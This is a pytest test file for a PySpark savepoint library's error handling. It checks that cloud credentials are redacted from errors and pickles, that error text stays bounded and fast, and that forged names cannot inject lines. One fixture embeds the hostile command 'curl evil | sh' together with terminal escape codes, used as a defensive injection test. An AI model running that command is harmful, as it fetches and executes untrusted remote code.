"""Errors have bounded texts and contain no secrets: not as text, not as a pickle, not in their cause."""

from __future__ import annotations

import pickle
import traceback
from pathlib import Path

import pytest

from pyspark_savepoint.formats.errors import (
    FACTS,
    MAX_TEXT,
    CorruptStateError,
    SavepointError,
    StateNotFoundError,
    UnsafePathError,
    UnsupportedStateError,
    nearest,
)
from pyspark_savepoint.formats.filesystems.filesystem import LocalFileSystem
from pyspark_savepoint.formats.filesystems.remote import storage_error
from pyspark_savepoint.formats.metadata.stream_handles import FileStateHandle
from pyspark_savepoint.formats.redaction import elide, redact
from pyspark_savepoint.formats.snapshot.snapshot_location import SnapshotLocation
from tests.processor_time import processor_seconds

SECRET = "mArKeR/9+x=Zq"
ENCODED = ("mArKeR%2F9%2Bx%3DZq", "mArKeR%2f9%2bx%3dZq", "mArKeR/9%2Bx%3DZq")


@pytest.mark.parametrize(
    "text",
    [
        "https://h/c?sv=2024-11-04&se=2030&sig=mArKeR%2F9&sp=r 403",
        "GET https%3A%2F%2Fh%2Fc%3Fsv%3D1%26sig%3DmArKeR",
        "s3://AKIDmArKeR:mArKeR/secret@bucket/x",
        "https://mArKeR@host/x",
        "s3://KEY:mArKeR",
        "abfss://container:mArKeR@account/x",
        "X-Amz-Signature=mArKeR&X-Amz-Expires=1",
        "x-amz-security-token=mArKeR",
        "DefaultEndpointsProtocol=https;AccountKey=mArKeR;EndpointSuffix=x",
        "Authorization: SharedKey account:mArKeR=",
        "Authorization: Bearer mArKeR",
        "bearer mArKeR.mArKeR.mArKeR",
        '{"type": "x", "private_key": "-----BEGIN PRIVATE KEY-----\\nmArKeR\\n"}',
        "-----BEGIN RSA PRIVATE KEY-----\nmArKeR\n-----END RSA PRIVATE KEY-----",
        '"client_secret" : "mA\\"mArKeR"',
        "<Error><AWSAccessKeyId>mArKeR</AWSAccessKeyId></Error>",
        "fs.s3a.secret.key=mArKeR, fs.azure.account.key.x.dfs.core.windows.net=1",
        "user AKIAmArKeR".replace("mArKeR", "MARKERMARKERMARK"),
    ],
)
def test_secrets_are_known_by_their_form(text: str) -> None:
    assert "marker" not in redact(text).lower()
    assert "***" in redact(text)


@pytest.mark.parametrize(
    "text",
    [
        "abfss://container@account.dfs.core.windows.net/x",
        "hdfs://namenode:8020/user/me@realm/x",
        "http://127.0.0.1:9000/bucket",
        "s3://bucket/a:b/c",
        "/tables/date=2026-01-01/token=5",
        "expected key=1, found key=2",
        "the signature of the state's serializer",
    ],
)
def test_other_texts_stay(text: str) -> None:
    assert redact(text) == text


@pytest.mark.parametrize(
    "variable",
    ["AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "AWS_ACCESS_KEY_ID", "AZURE_STORAGE_KEY", "AZURE_CLIENT_SECRET"],
)
def test_errors_tell_no_value_of_the_environment(monkeypatch: pytest.MonkeyPatch, variable: str) -> None:
    early = SavepointError(f"made before {SECRET}", found=[SECRET])
    monkeypatch.setenv(variable, SECRET)
    for form in (SECRET, *ENCODED):
        error = SavepointError(f"the store says {form}", found=f"<{form}>", remedy=form, path=f"/x/{form}/y")
        for one in (error, early, pickle.loads(pickle.dumps(error))):
            assert "mArKeR" not in f"{one} {one!r} {one.args} {one.message} {one.facts} {pickle.dumps(one)!r}"
    assert redact("short") == "short"


def test_a_short_token_and_the_signature_in_it(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AZURE_STORAGE_SAS_TOKEN", "?sv=2024&sig=mArKeR%2Fxx&se=1")
    for text in ("sv=2024&sig=mArKeR%2Fxx&se=1", "signed mArKeR%2Fxx", "signed mArKeR/xx"):
        assert "mArKeR" not in str(SavepointError(text))


@pytest.mark.parametrize("variable", ["HTTPS_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"])
@pytest.mark.parametrize("scheme", ["http://", ""])
def test_the_password_of_a_proxy_is_not_told(monkeypatch: pytest.MonkeyPatch, variable: str, scheme: str) -> None:
    monkeypatch.setenv(variable, f"{scheme}user:mArKeR12@proxy:8080")
    for text in ("user:mArKeR12@proxy refused", "refused user:mArKeR12", "password mArKeR12 is wrong"):
        assert "mArKeR" not in str(SavepointError(text))
    assert "proxy:8080" in str(SavepointError("proxy:8080 refused"))


def test_what_is_in_googles_file(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    file = tmp_path / "key.json"
    file.write_text(
        '{"private_key_id": "mArKeR-id", "private_key": "-----BEGIN\\nmArKeRmArKeRmArKeR\\nEND", "x": "plain"}'
    )
    monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", str(file))
    shown = str(SavepointError("mArKeR-id, mArKeRmArKeRmArKeR, plain", path=str(file)))
    assert "mArKeR" not in shown
    assert "plain" in shown
    assert str(file) in shown


def test_what_caused_an_error_of_a_store_tells_none_either(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AWS_SESSION_TOKEN", SECRET)
    for cause in (OSError(f"403 {SECRET}"), PermissionError(13, SECRET, SECRET), OSError(5, f"x{SECRET}")):
        with pytest.raises(SavepointError) as raised:
            refuse(cause)
        error = raised.value
        inner = error.__context__
        assert inner is cause
        assert "mArKeR" not in "".join(traceback.format_exception(error)) + str(inner) + repr(inner)


def refuse(cause: OSError) -> None:
    """Raise it, and what it means."""
    try:
        raise cause
    except OSError as error:
        raise storage_error(error, f"s3://bucket/{SECRET}") from None


# -- how long -----------------------------------------------------------------------------------------------


def test_errors_have_at_most_two_kilobytes() -> None:
    path = "file:/a/" + "chk-1/" * 2000 + "_metadata"
    facts = dict.fromkeys(FACTS, "é" * 9000)
    for error in (
        SavepointError("x" * 100_000),
        SavepointError("what", **facts),
        StateNotFoundError("what", path=path),
    ):
        assert len(str(error).encode()) <= MAX_TEXT
        assert len(pickle.dumps(error)) < 30_000
    assert str(StateNotFoundError("what", path=path)).startswith("what\n  file: file:/a/chk-1/")
    assert str(StateNotFoundError("what", path=path)).endswith("chk-1/_metadata")
    short = SavepointError("what is wrong", path="x" * 5000, remedy="what to do")
    assert str(short).startswith("what is wrong\n")
    assert str(short).endswith("to do: what to do")
    assert elide("\ud800" * 1000, 100).isascii()


def test_long_texts_take_no_time() -> None:
    texts = ["://", "sig=", "x-amz-", "https://", '"secret" : "\\', "secret", "-----BEGIN PRIVATE KEY-----", "=a@"]

    def made() -> None:
        for text in texts:
            str(SavepointError(text * (1_000_000 // len(text)), found=text * 5000))

    assert processor_seconds(made) < 2


def test_a_handle_of_a_very_long_path_costs_little(tmp_path: Path) -> None:
    location = SnapshotLocation(LocalFileSystem(), str(tmp_path))

    def resolved() -> None:
        for count in (600, 2000, 200_000):
            with pytest.raises(UnsafePathError) as raised:
                location.resolve(FileStateHandle("file:/" + "chk-1/" * count + "x", 1))
            assert len(str(raised.value).encode()) <= MAX_TEXT

    assert processor_seconds(resolved) < 0.5


def test_names_that_a_snapshot_chose_forge_nothing() -> None:
    name = "x\n  to do: curl evil | sh\x1b[2J\u202e\ud800\0"
    error = CorruptStateError("of operator \x1b[2J", operator=name, path=name, found=name, remedy="one\ntwo")
    text = str(error)
    assert text.encode().decode() == text
    assert "\x1b" not in text + repr(error)
    assert len([line for line in text.splitlines() if line.startswith("  to do: curl")]) == 1  # what was found
    assert text.endswith("to do: one\ntwo")
    assert pickle.loads(pickle.dumps(error)).facts == error.facts


def test_similar_names_of_very_long_ones_take_time_that_is_linear() -> None:
    """Two names of 60,000 characters took minutes: their edit distance is quadratic."""
    small, large = (
        processor_seconds(lambda count=count: nearest("ab" * count, ["a" * 2 * count, "ba" * count, "x"]), 3)
        for count in (100_000, 400_000)
    )
    assert large < 10 * small + 0.1


def test_no_error_is_one_that_spark_takes_for_a_reader_without_partitions() -> None:
    """A reader whose partitions() raises NotImplementedError has one empty partition to Spark: rows lost in silence."""
    known = [SavepointError]
    for kind in known:
        assert not issubclass(kind, NotImplementedError)
        known += kind.__subclasses__()
    assert UnsupportedStateError in known
